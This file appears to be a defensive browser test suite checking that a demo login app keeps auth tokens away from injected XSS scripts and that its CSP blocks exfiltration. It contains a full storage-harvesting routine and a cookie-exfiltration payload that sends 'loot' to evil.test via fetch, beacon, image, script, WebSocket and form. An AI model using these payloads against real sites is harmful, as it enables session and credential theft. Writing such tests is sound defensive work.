/**
 * What an XSS payload can reach (issue 4). After a real login through the demo UI, script
 * injected into the page (page.evaluate, as an injected script would run) looks for tokens
 * everywhere a page can look: document.cookie, Web Storage, IndexedDB, Cache Storage, the DOM,
 * window globals, and every response the page received. It finds none; in split-cookie mode it
 * sees header.payload only, never the signature. And the demo's CSP stops the payload from
 * sending anything to evil.test.
 */
import type { Browser, BrowserContext, Page, Response } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  type AppServer,
  type EvilServer,
  hasChromium,
  JWT_RE,
  launchBrowser,
  makeCertificate,
  newContext,
  newEmail,
  REFRESH_RE,
  requireChromium,
  signupViaApi,
  startApp,
  startEvil,
  type Tls,
  uiLogin,
} from '../support/browser.js';

type Dump = Record<string, string>;
// Browser globals inside page.evaluate callbacks (module-local: the project has no DOM lib).
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const window: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const document: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const indexedDB: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const caches: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const navigator: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const WebSocket: any;
// biome-ignore lint/suspicious/noExplicitAny: the DOM, untyped in this Node project
declare const Image: any;

/** The injected script: everything the page's own JavaScript can read, as strings. */
function readEverything(): Promise<Dump> {
  return (async () => {
    const out: Record<string, string> = {};
    out.cookie = document.cookie;
    const storage = (s: {
      length: number;
      key: (i: number) => string | null;
      getItem: (k: string) => string | null;
    }) => {
      const entries: string[] = [];
      for (let i = 0; i < s.length; i++) {
        const k = s.key(i) as string;
        entries.push(`${k}=${s.getItem(k)}`);
      }
      return entries.join('\n');
    };
    out.localStorage = storage(window.localStorage);
    out.sessionStorage = storage(window.sessionStorage);
    const idb: string[] = [];
    for (const info of (await indexedDB.databases()) as { name: string }[]) {
      // biome-ignore lint/suspicious/noExplicitAny: IDBDatabase
      const db: any = await new Promise((resolve, reject) => {
        const req = indexedDB.open(info.name);
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      for (const store of Array.from(db.objectStoreNames as string[])) {
        const rows = await new Promise((resolve, reject) => {
          const req = db.transaction(store, 'readonly').objectStore(store).getAll();
          req.onsuccess = () => resolve(req.result);
          req.onerror = () => reject(req.error);
        });
        idb.push(`${info.name}/${store}: ${JSON.stringify(rows)}`);
      }
      db.close();
    }
    out.indexedDB = idb.join('\n');
    const cached: string[] = [];
    for (const name of (await caches.keys()) as string[]) {
      const cache = await caches.open(name);
      for (const req of await cache.keys()) cached.push(`${req.url} ${await (await cache.match(req)).text()}`);
    }
    out.cacheStorage = cached.join('\n');
    const values = Array.from(document.querySelectorAll('input, textarea') as ArrayLike<{ value: string }>).map(
      (e) => e.value,
    );
    out.dom = `${document.documentElement.outerHTML}\n${values.join('\n')}\n${document.title}\n${window.location.href}`;
    const globals: string[] = [];
    for (const key of Object.getOwnPropertyNames(window)) {
      try {
        const v = window[key];
        if (typeof v === 'string') globals.push(`${key}=${v}`);
        else if (v && typeof v === 'object' && Object.getPrototypeOf(v) === Object.prototype)
          globals.push(`${key}=${JSON.stringify(v)}`);
      } catch {
        // cross-origin or throwing getters
      }
    }
    out.globals = globals.join('\n');
    out.performance = JSON.stringify(window.performance.getEntries().map((e: { name: string }) => e.name));
    return out;
  })();
}

/** Where in a dump a token-looking value (or one of `exact`) shows up. */
function leaks(dump: Dump, exact: string[]): string[] {
  const found: string[] = [];
  for (const [where, text] of Object.entries(dump)) {
    if (JWT_RE.test(text)) found.push(`${where}: JWT ${JWT_RE.exec(text)?.[0].slice(0, 40)}…`);
    if (REFRESH_RE.test(text)) found.push(`${where}: refresh token`);
    for (const value of exact)
      if (value && text.includes(value)) found.push(`${where}: exact value ${value.slice(0, 20)}…`);
  }
  return found;
}

/** Collects what the page's JavaScript could see of every response: URL, readable headers, body. */
function watchResponses(page: Page): () => Promise<Dump> {
  const seen: Response[] = [];
  page.on('response', (r) => {
    if (['fetch', 'xhr', 'document', 'script'].includes(r.request().resourceType())) seen.push(r);
  });
  return async () => {
    const out: Dump = {};
    for (const [i, r] of seen.entries()) {
      const headers = Object.entries(await r.allHeaders()).filter(([k]) => k !== 'set-cookie');
      const body = await r.text().catch(() => '');
      out[`response ${i} ${r.request().method()} ${new URL(r.url()).pathname}`] =
        `${r.url()}\n${JSON.stringify(headers)}\n${body}`;
    }
    return out;
  };
}

let tls: Tls;
let browser: Browser;
let evil: EvilServer;
const apps: AppServer[] = [];

// Without Chromium every test fails with the reason (beforeEach), rather than being skipped.
beforeEach(requireChromium);

beforeAll(async () => {
  if (!hasChromium()) return;
  tls = makeCertificate();
  [browser, evil] = await Promise.all([
    launchBrowser(tls),
    startEvil(tls, { '/blank': '<!doctype html><title>evil</title>' }),
  ]);
});

afterAll(async () => {
  await browser?.close();
  await evil?.close();
  for (const app of apps) await app.close();
});

async function signedIn(
  app: AppServer,
): Promise<{ context: BrowserContext; page: Page; email: string; responses: () => Promise<Dump> }> {
  const email = newEmail('xss');
  await signupViaApi(tls, app, email);
  const context = await newContext(browser);
  const page = await context.newPage();
  const responses = watchResponses(page);
  await uiLogin(page, app, email);
  // Touch a few protected routes through the UI so their responses are in the page too.
  await page.goto(`${app.origin}/notes`);
  await page.locator('form#note-form input[name=text]').fill('hello from the xss test');
  await page.locator('form#note-form [type=submit]').click();
  await page.locator('[data-testid=note]').filter({ hasText: 'hello from the xss test' }).waitFor();
  await page.goto(`${app.origin}/sessions`);
  await page.locator('[data-testid=current-session]').waitFor();
  return { context, page, email, responses };
}

describe('an injected script after login', { timeout: 60_000 }, () => {
  it('finds no access token, refresh token or JWT in cookies, storage, IndexedDB, caches, DOM, globals or responses', async () => {
    const app = await startApp(tls);
    apps.push(app);
    const { context, page, responses } = await signedIn(app);
    try {
      const jar = new Map((await context.cookies([app.origin, `${app.origin}/auth/refresh`])).map((c) => [c.name, c]));
      const access = jar.get('__Host-tw_at');
      const refresh = jar.get('__Secure-tw_rt');
      // The browser does hold the session (so the scan below is meaningful), HttpOnly.
      expect(access?.value).toMatch(JWT_RE);
      expect(refresh?.value).toMatch(REFRESH_RE);
      expect([access?.httpOnly, refresh?.httpOnly]).toEqual([true, true]);
      expect(jar.get('__Host-tw_csrf')?.httpOnly).toBe(false);

      const dump = await page.evaluate(readEverything);
      expect(dump.cookie).toContain('__Host-tw_csrf='); // the injected script does run and read cookies
      expect(dump.dom).toContain('data-testid="user-email"');
      expect(leaks(dump, [access?.value ?? '', refresh?.value ?? ''])).toEqual([]);
      const seen = await responses();
      expect(Object.keys(seen).some((k) => k.includes('/auth/login'))).toBe(true);
      expect(leaks(seen, [access?.value ?? '', refresh?.value ?? ''])).toEqual([]);

      // Control: the same scan does find tokens planted where an SDK might have put them.
      await page.evaluate(async (jwt) => {
        window.localStorage.setItem('planted', jwt);
        await new Promise((resolve) => {
          const req = indexedDB.open('planted-db');
          req.onupgradeneeded = () => req.result.createObjectStore('s', { autoIncrement: true });
          req.onsuccess = () => {
            const tx = req.result.transaction('s', 'readwrite');
            tx.objectStore('s').add({ refresh: 'twr_plantedplantedplanted' });
            tx.oncomplete = () => {
              req.result.close();
              resolve(null);
            };
          };
        });
      }, access?.value ?? '');
      const planted = leaks(await page.evaluate(readEverything), []);
      expect(planted.some((l) => l.startsWith('localStorage: JWT'))).toBe(true);
      expect(planted.some((l) => l.startsWith('indexedDB: refresh token'))).toBe(true);
    } finally {
      await context.close();
    }
  });

  it('split mode: document.cookie exposes header.payload (two segments) only, never the signature', async () => {
    const app = await startApp(tls, { cookies: { split: true } });
    apps.push(app);
    const { context, page, responses } = await signedIn(app);
    try {
      const jar = new Map((await context.cookies([app.origin, `${app.origin}/auth/refresh`])).map((c) => [c.name, c]));
      const hp = jar.get('__Host-tw_at_hp');
      const sig = jar.get('__Host-tw_at_sig');
      expect(jar.has('__Host-tw_at')).toBe(false);
      expect(hp?.value).toMatch(/^eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/);
      expect(sig?.value).toMatch(/^[A-Za-z0-9_-]{40,}$/);
      expect([hp?.httpOnly, sig?.httpOnly]).toEqual([false, true]);

      const dump = await page.evaluate(readEverything);
      const readable = new Map(
        dump.cookie?.split(/;\s*/).map((p: string) => [p.slice(0, p.indexOf('=')), p.slice(p.indexOf('=') + 1)]),
      );
      expect(readable.get('__Host-tw_at_hp')).toBe(hp?.value); // header.payload is readable by design
      expect(readable.get('__Host-tw_at_hp')?.split('.')).toHaveLength(2);
      expect(readable.has('__Host-tw_at_sig')).toBe(false);
      const whole = `${hp?.value}.${sig?.value}`;
      expect(leaks(dump, [sig?.value ?? '', whole, jar.get('__Secure-tw_rt')?.value ?? ''])).toEqual([]);
      expect(leaks(await responses(), [sig?.value ?? '', whole, jar.get('__Secure-tw_rt')?.value ?? ''])).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("CSP blocks the injected script's exfiltration to evil.test (securitypolicyviolation, nothing reaches evil.test)", async () => {
    const app = apps[0] ?? (await startApp(tls));
    if (!apps.includes(app)) apps.push(app);
    const { context, page } = await signedIn(app);
    try {
      // Control: from a page without that CSP the same request does reach evil.test.
      const control = await context.newPage();
      await control.goto(`${evil.origin}/blank`);
      await control.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent'), `${evil.origin}/control`);
      await expect.poll(() => evil.requests.some((r) => r.path === '/control')).toBe(true);
      await control.close();
      const before = evil.requests.length;

      const outcome = await page.evaluate(async (evilOrigin) => {
        const violations: { directive: string; blocked: string }[] = [];
        document.addEventListener('securitypolicyviolation', (e: { effectiveDirective: string; blockedURI: string }) =>
          violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
        );
        const loot = encodeURIComponent(document.cookie);
        const attempts: Record<string, string> = {};
        try {
          await fetch(`${evilOrigin}/fetch?c=${loot}`, { mode: 'no-cors', credentials: 'omit' });
          attempts.fetch = 'sent';
        } catch (e) {
          attempts.fetch = String(e);
        }
        attempts.beacon = String(navigator.sendBeacon(`${evilOrigin}/beacon`, loot));
        new Image().src = `${evilOrigin}/img?c=${loot}`;
        const external = document.createElement('script');
        external.src = `${evilOrigin}/script.js`;
        document.head.append(external);
        const inline = document.createElement('script');
        inline.textContent = `fetch('${evilOrigin}/inline?c=' + document.cookie)`;
        document.head.append(inline);
        const css = document.createElement('link');
        css.rel = 'stylesheet';
        css.href = `${evilOrigin}/style.css`;
        document.head.append(css);
        try {
          const ws = new WebSocket(`${evilOrigin.replace('https:', 'wss:')}/ws`);
          ws.onerror = () => undefined;
        } catch (e) {
          attempts.websocket = String(e);
        }
        const form = document.createElement('form');
        form.method = 'POST';
        form.action = `${evilOrigin}/form`;
        form.target = '_self';
        document.body.append(form);
        form.submit();
        await new Promise((r) => setTimeout(r, 800));
        return { violations, attempts, href: window.location.href };
      }, evil.origin);
      console.log(
        `[csp] blocked: ${outcome.violations.map((v) => `${v.directive} ${v.blocked === 'inline' ? 'inline' : new URL(v.blocked).pathname}`).join(', ')}`,
      );

      const directives = new Set(outcome.violations.map((v) => v.directive));
      for (const d of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'form-action'])
        expect(directives, d).toContain(d);
      // Every violation is ours: evil.test URLs (https: or wss:), or the inline script.
      const evilHost = new URL(evil.origin).host;
      for (const v of outcome.violations)
        expect(v.blocked === 'inline' || new URL(v.blocked).host === evilHost, JSON.stringify(v)).toBe(true);
      expect(outcome.attempts.fetch).toMatch(/TypeError/);
      expect(outcome.href.startsWith(app.origin)).toBe(true); // the form did not navigate away
      await new Promise((r) => setTimeout(r, 300));
      expect(evil.requests.slice(before).map((r) => `${r.method} ${r.path}`)).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
